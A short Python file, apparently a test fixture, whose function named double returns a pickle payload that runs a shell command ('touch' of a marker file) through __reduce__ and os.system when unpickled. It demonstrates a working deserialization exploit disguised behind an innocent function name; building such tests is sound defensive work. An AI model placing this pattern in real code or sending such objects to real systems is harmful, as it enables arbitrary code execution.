"""Returns an object that runs a program wherever it is unpickled.

naive: pickle
"""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch @OPEN@/attack-left",)


def double(x):
    return Payload()
